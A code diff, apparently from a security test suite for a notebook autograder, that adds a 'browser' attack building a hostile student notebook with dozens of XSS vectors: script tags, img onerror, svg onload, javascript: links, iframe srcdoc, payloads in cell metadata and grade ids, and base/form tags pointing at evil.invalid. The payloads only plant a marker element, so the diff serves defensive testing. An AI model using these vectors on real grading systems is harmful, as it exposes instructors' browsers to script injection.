@@ -182,6 +182,7 @@ ATTACKS = {
     "resources_out_cpu": "g) 200 MB of output (display metadata, traceback), CPU burn",
     "resources_fork_mem": "g) fork bomb, 8 GiB across many processes",
     "metadata": "h) no schema_version, duplicated and unknown grade_ids, solution metadata on a raw cell",
+    "browser": "i) scripts for the instructor's browser: HTML/JS/SVG/markdown outputs, markdown and raw cells",
 }
 
 # which exercise pays for which sub-attack
@@ -856,10 +857,104 @@ def build_attack(kind: str, release, source, cfg: dict):
         _edit(nb, "l4_softmax", lambda s: s + "\n" + _MEMORY)
     elif kind == "metadata":
         _metadata_attack(nb)
+    elif kind == "browser":
+        browser_attack(nb, cfg["token"])
     else:
         raise ValueError(kind)
     _with_payoffs(nb, kind, source)
     return nb
+
+
+# i) the instructor's browser. Each vector, if its script runs where the page is shown, adds
+# <i id="AGXSS-<token>-<vector>"> to the page (the id is only ever assembled by a script that
+# ran: tests/hostile/browser.py). Kernel vectors are outputs the student's code makes at
+# grading time; file vectors are in the submitted notebook itself.
+BROWSER_KERNEL = ["html_script", "javascript", "img_onerror", "svg_onload", "svg_script", "markdown_onerror",
+                  "markdown_jslink", "widget_view", "iframe_srcdoc", "isolated", "png_metadata", "png_width",
+                  "latex_href", "details_a_base", "unknown_mime", "stream", "execute_result", "error"]
+BROWSER_FILE = ["md_script", "md_img_onerror", "md_svg", "md_iframe_srcdoc", "md_details", "md_a_href",
+                "md_link", "md_base_form", "md_latex", "md_attachment_svg", "raw_html", "stored_output", "cell_tag",
+                "grade_id", "widget_state"]
+
+
+def _js(token: str, vector: str, frame: bool = False) -> str:
+    doc = "parent.document" if frame else "document"
+    return (f"(function(){{var d={doc},e=d.createElement('i');e.id='AGX'+'SS-{token}-{vector}';"
+            "d.documentElement.appendChild(e);})()")
+
+
+def _js_bare(token: str, vector: str) -> str:
+    """The same without spaces or quotes (for an unquoted attribute)."""
+    return f"document.documentElement.appendChild(document.createElement(`i`)).id=`AGX`+`SS-{token}-{vector}`"
+
+
+def browser_attack(nb, token: str) -> None:
+    import base64
+    q = chr(34)
+    J = lambda v, frame=False: _js(token, v, frame)       # noqa: E731
+
+    def show(data, metadata=None):
+        return f"display({data!r}, raw=True" + (f", metadata={metadata!r})" if metadata else ")")
+    kernel = [
+        "from IPython.display import display, HTML, Javascript, Markdown",
+        f"display(HTML({'<script>' + J('html_script') + '</script>'!r}))",
+        f"display(Javascript({J('javascript')!r}))",
+        f"display(HTML({'<img src=x onerror=' + q + J('img_onerror') + q + '>'!r}))",
+        show({"image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{J("svg_onload")}">'
+                               f'<script>{J("svg_script")}</script></svg>'}),
+        f"display(Markdown({'<img src=x onerror=' + q + J('markdown_onerror') + q + '> [x](javascript:void(' + q + J('markdown_jslink') + q + '))'!r}))",
+        show({"application/vnd.jupyter.widget-view+json": {"model_id": f"</script><script>{J('widget_view')}</script>",
+                                                          "version_major": 2, "version_minor": 0}, "text/plain": "w"}),
+        show({"text/html": f'<iframe srcdoc="<script>{J("iframe_srcdoc", True)}</script>"></iframe>'}),
+        show({"text/html": f"<script>{J('isolated')}</script>", "text/plain": "i"}, {"text/html": {"isolated": True}}),
+        show({"image/png": "iVBORw0KGgo=", "text/plain": "p"},
+             {"image/png": {"alt": f'"><img src=x onerror="{J("png_metadata")}">'},
+              "filenames": {"image/png": f"javascript:{J('png_metadata')}"}}),
+        show({"image/png": "iVBORw0KGgo=", "text/plain": "p2"},
+             {"image/png": {"width": "1 onerror=" + _js_bare(token, "png_width")}}),
+        show({"text/latex": "$\\href{javascript:" + J("latex_href") + "}{x}$", "text/plain": "l"}),
+        show({"text/html": f'<details open ontoggle="{J("details_a_base")}">d</details>'
+                           f'<a href="javascript:{J("details_a_base")}">a</a><base href="https://evil.invalid/{token}/">',
+              "text/plain": "d"}),
+        show({"application/x-custom+html": f"<script>{J('unknown_mime')}</script>", "text/plain": "u"}),
+        f"print({'<script>' + J('stream') + '</script>'!r})",
+    ]
+    i = cell_index(nb, "l4_sigmoid")
+    nb["cells"][i]["source"] = _src(nb["cells"][i]) + "\n" + "\n".join(kernel) + "\n"
+    j = cell_index(nb, "l4_log_sigmoid")
+    nb["cells"][j]["source"] = _src(nb["cells"][j]) + "\nfrom IPython.display import HTML\nHTML(" + \
+        repr("<img src=x onerror=" + q + J("execute_result") + q + ">") + ")\n"
+    k = cell_index(nb, "l4_softmax")
+    nb["cells"][k]["source"] = _src(nb["cells"][k]) + "\nraise ValueError(" + repr("<script>" + J("error") + "</script>") + ")\n"
+
+    md = "\n\n".join([
+        "# notes",
+        f"<script>{J('md_script')}</script>",
+        f'<img src="x" onerror="{J("md_img_onerror")}">',
+        f'<svg onload="{J("md_svg")}"><script>{J("md_svg")}</script></svg>',
+        f'<iframe srcdoc="<script>{J("md_iframe_srcdoc", True)}</script>"></iframe>',
+        f'<details open ontoggle="{J("md_details")}">x</details>',
+        f'<a href="javascript:{J("md_a_href")}">click</a> and [a link](javascript:void(0);{token}-md_link)',
+        f'<base href="https://evil.invalid/{token}/"><form action="https://evil.invalid/{token}/"><input name="q"></form>',
+        "$\\href{javascript:" + J("md_latex") + "}{m}$",
+        "![att](attachment:evil.svg)",
+    ])
+    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{J("md_attachment_svg")}"></svg>'
+    nb["cells"].insert(1, {"cell_type": "markdown", "source": md,
+                           "metadata": {"tags": [f'"><img src=x onerror={_js_bare(token, "cell_tag")}>']},   # no comma: nbformat
+                           "attachments": {"evil.svg": {"image/svg+xml": base64.b64encode(svg.encode()).decode()}}})
+    nb["cells"].insert(2, {"cell_type": "raw", "metadata": {"raw_mimetype": "text/html"},
+                           "source": f"<script>{J('raw_html')}</script>"})
+    nb["cells"].insert(3, {"cell_type": "code", "execution_count": 1, "metadata": {}, "source": "1",
+                           "outputs": [{"output_type": "display_data", "metadata": {},
+                                        "data": {"text/html": f"<script>{J('stored_output')}</script>",
+                                                 "text/plain": "s"}}]})
+    nb["cells"].insert(4, {"cell_type": "code", "execution_count": None, "outputs": [], "source": "0",
+                           "metadata": {"nbgrader": {"grade": True, "solution": False, "locked": False, "points": 1,
+                                                     "schema_version": 3,
+                                                     "grade_id": f'x"><img src=x onerror="{J("grade_id")}">'}}})
+    nb["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {
+        "state": {}, "x": f"</script><script>{J('widget_state')}</script>"}}
 
 
 def _metadata_attack(nb) -> None:
